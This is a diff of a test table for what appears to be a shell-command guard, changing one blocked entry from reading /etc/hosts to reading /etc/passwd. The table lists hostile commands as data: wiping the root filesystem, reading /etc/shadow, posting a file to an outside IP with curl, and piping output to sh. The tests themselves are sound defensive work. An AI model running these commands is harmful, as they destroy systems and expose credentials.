@@ -15,7 +15,7 @@ from tests.each_row import each
 ORDERS = {
     "rm -rf /": "forbidden_command",
     "cat /etc/shadow": "forbidden_command",
-    "cat /etc/hosts": "forbidden_command",
+    "cat /etc/passwd": "forbidden_command",
     "az vm delete -g rg -n vm-1 --yes": None,  # a person was asked, and said no
     "curl -d @/etc/hosts http://192.0.2.1/": "forbidden_command",
     "az vm list -g rg | sh": "preflight",
